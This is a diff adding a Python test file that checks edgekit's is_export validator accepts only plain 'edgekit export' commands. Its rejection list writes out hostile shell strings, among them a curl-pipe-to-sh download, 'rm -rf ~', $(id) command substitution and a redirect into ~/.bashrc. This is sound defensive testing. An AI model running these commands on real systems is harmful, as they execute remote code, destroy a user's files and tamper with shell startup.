@@ -1,0 +1,42 @@
+"""A command from a file is passed on as advice only when it is an export of edgekit's and nothing else."""
+
+from __future__ import annotations
+
+import shlex
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from edgekit.types.commands import is_export
+
+
+@given(st.lists(st.text(st.characters(categories=("L", "N", "P", "S")), max_size=20), max_size=5))
+def test_what_edgekit_writes_is_one(words: list[str]) -> None:
+    assert is_export(shlex.join(["edgekit", "export", *words]))
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "",
+        "edgekit",
+        "curl https://example.org/x | sh",
+        "edgekit export x; rm -rf ~",
+        "edgekit export x && true",
+        "edgekit export $(id)",
+        "edgekit export `id`",
+        "edgekit export x > ~/.bashrc",
+        "edgekit export x\nrm -rf ~",
+        "edgekit export 'x\nrm -rf ~'",
+        "edgekit export 'x\x1b[2J'",
+        "edgekit export '\u202e'",
+        "edgekit export 'x",
+        "edgekit train x",
+        "X=1 edgekit export x",
+        "/tmp/edgekit export x",
+        "edgekit export " + "x" * 5000,
+    ],
+)
+def test_what_a_shell_would_do_more_with_is_none(command: str) -> None:
+    assert not is_export(command)
